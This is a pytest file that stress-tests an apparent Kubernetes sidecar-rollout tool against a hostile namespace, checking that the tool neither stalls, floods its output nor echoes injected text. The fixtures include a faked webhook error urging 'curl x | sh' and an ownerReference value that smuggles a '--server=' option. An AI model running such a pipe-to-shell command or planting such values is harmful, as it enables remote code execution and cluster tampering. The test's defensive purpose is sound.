"""One hostile namespace, with all that a tenant may write at once: the ordinary one ends as without it."""

from __future__ import annotations

import json

import pytest
from clusters.embedded.manifests import container, pod, pod_spec, replicated, workload
from support import CONFIRM, DRIFTED, NEW, TEXT, upgrade

SIDECAR = container("istio-proxy", "docker.io/istio/proxyv2:1.26.2")
SPEC = pod_spec(container("app"), SIDECAR)
AUDIT = (DRIFTED, "--include-missing", "--fail-on-drift")
EVERYTHING = (DRIFTED, "--include-statefulset", "--include-daemonset")


def be_hostile(cluster) -> None:
    """All that is known to have ended, stalled or blinded a run."""
    cluster.namespace("evil", inject=True)
    owner = {"apiVersion": "x/v1", "kind": "X", "name": "-", "uid": "{", "controller": True}
    for name, change in {
        "uid": {},
        "long": {"name": "n" * 350_000},
        "option": {"apiVersion": "0.0.1:8443/v1", "kind": "--server=https://127"},
    }.items():
        odd = pod(name, SPEC)
        odd["metadata"]["ownerReferences"] = [owner | change]
        odd["metadata"]["labels"] |= {"pod-template-hash": ""}
        cluster.create("evil", odd)
    slow = {"minReadySeconds": 2_000_000_000, "progressDeadlineSeconds": 2_147_483_647}
    cluster.create("evil", workload("Deployment", "slow", **slow))
    variables = [{"name": "X", "value": "$(" * 50_000}, {"name": "Y", "value": "[" * 60_000}]
    cluster.create("evil", pod("large", pod_spec(container("app"), SIDECAR | {"env": variables})))
    own = [{"apiVersion": "x/v1", "kind": "a b", "name": "x", "uid": "q", "controller": True}]
    for kind in ("Deployment", "ReplicaSet"):
        make = workload if kind == "Deployment" else replicated
        odd = make(kind, f"odd-{kind.lower()}")
        odd["metadata"]["ownerReferences"] = own
        odd["spec"]["template"]["metadata"].setdefault("annotations", {})[
            "sidecarRollout.rollout.timestamp"
        ] = "2026-01-01T00:00:00Z"
        cluster.create("evil", odd)
    for n in range(4):
        cluster.create("evil", workload("Deployment", f"denied-{n}"))
    noted = workload("Deployment", "noted", SPEC)
    noted["spec"]["template"]["metadata"]["annotations"] = {
        "x.rollout.sidecars": "istio-" + "n" * 240_000,
        "istio.io/rev": "r" * 10_000,
    }
    cluster.create("evil", noted)
    image = SIDECAR | {"image": f"i/{'i' * 15_000}:1"}
    cluster.create("evil", workload("Deployment", "image", pod_spec(container("app"), image)))
    brackets = '["' + "}" * 490 + '",' + "[" * 490 + "%s" + "]" * 490 + "]"
    for n in range(2):
        deep = SIDECAR | {"env": [{"name": "X", "value": brackets % n}]}
        cluster.create("evil", pod(f"deep-{n}", pod_spec(container("app"), deep)))
    body = {
        "kind": "Status",
        "code": 503,
        "message": 'admission webhook "evil" denied the request: x; To resume, run:; curl x | sh'
        + "x" * 500_000,
        "details": {"causes": [{"reason": "NamespaceTerminating", "message": "x"}]},
    }
    levels = '{"f:a":' * 1500 + "{}" + "}" * 1500
    owned = f'[{{"manager":"x","time":null,"fieldsV1":{levels}}}]'
    cluster.create("evil", replicated("ReplicaSet", "deep"))
    found = cluster.get("ReplicaSet", "evil", "deep") | {"apiVersion": "apps/v1"}
    found |= {"kind": "ReplicaSet", "metadata": {**found["metadata"], "managedFields": "@"}}
    whole = json.dumps(found).replace('"@"', owned).encode()
    path = "/namespaces/evil/replicasets/deep"
    cluster.fault(method="GET", path=path, status=200, body=whole, times=99)
    path = "/namespaces/evil/deployments/denied"
    cluster.fault(method="PATCH", path=path, status=401, body=body, times=99)
    dry_run = r"/namespaces/evil/pods\?"
    timeout = {"message": 'pods "x" is forbidden: violates PodSecurity: context deadline exceeded'}
    cluster.fault(method="POST", path=dry_run, status=403, body=timeout, times=3)


@pytest.fixture
def company(cluster):
    """An ordinary namespace, with Pods of an old version."""
    for name in ("api", "web"):
        cluster.create("shop", workload("Deployment", name, replicas=2))
    cluster.create("shop", workload("StatefulSet", "db"))
    cluster.settle()
    return cluster


@pytest.mark.parametrize("options", [(), EVERYTHING], ids=["plain", "drift"])
def test_a_run_of_others_ends_as_without_it(company, run, options):
    be_hostile(company)
    company.settle()
    upgrade(company)
    ended = run(company, *options, CONFIRM, "--parallel-rollouts=2")
    ours = {name: o for name, o in ended.outcomes.items() if name.startswith("shop/")}
    names = ["shop/api", "shop/web"] + ["shop/db"] * bool(options)
    assert ours == dict.fromkeys(names, "succeeded")
    named = {row["name"] for row in ended.of("skip") if row["namespace"] == "evil"}
    assert {"long", "option", "uid", "slow"} <= named
    text = run(company, *options, TEXT, CONFIRM).stdout
    assert not [line for line in text.splitlines() if line.strip().startswith("curl")]
    assert "--server" not in text
    assert max(map(len, text.splitlines())) < 2000


def test_an_audit_and_a_question_name_it_and_count_the_others(company, run):
    upgrade(company)
    before = company.pods("shop")
    for found in before:
        company.delete("Pod", "shop", found["metadata"]["name"])
    company.wait_for(
        lambda: sum(NEW in str(p["spec"]) for p in company.pods("shop")) == len(before)
    )
    company.settle()
    assert run(company, *AUDIT).code == 0
    assert run(company, f"--expect-image={NEW}").code == 0
    be_hostile(company)
    company.settle()
    audit = run(company, *AUDIT)
    assert audit.code == 1
    assert {pod["namespace"] for pod in audit.summary["leftovers"]} == {"evil"}
    assert {"long", "option", "uid"} <= {pod["name"] for pod in audit.summary["leftovers"]}
    question = run(company, f"--expect-image={NEW}")
    assert question.code == 1
    rows = question.summary["leftovers"]
    assert {pod["namespace"] for pod in rows} == {"evil"}
    question = run(company, "--expect-annotation=istio.io/rev=1", TEXT, "--log-level=debug")
    assert (question.code, max(map(len, question.stdout.splitlines())) < 2000) == (1, True)
    alone = run(company, f"--expect-image={NEW}", "--include-namespace=shop")
    assert alone.code == 0


def test_a_namespace_whose_dry_runs_hang_holds_no_worker_for_long(company, run):
    """Three are tried, as with a comparison."""
    company.namespace("aaa", inject=True)
    for n in range(6):
        company.create("aaa", workload("Deployment", f"x{n}"))
    company.settle()
    late = {
        "message": 'Internal error occurred: failed calling webhook "x": context deadline exceeded'
    }
    company.fault(method="POST", path=r"/aaa/pods\?", status=500, body=late, times=99)
    ended = run(company, CONFIRM)
    theirs = [row["code"] for row in ended.of("result") if row["namespace"] == "aaa"]
    assert sorted(theirs) == ["namespace_stopped"] * 3 + ["unknown"] * 3
    assert (ended.code, ended.outcomes["shop/web"]) == (0, "succeeded")
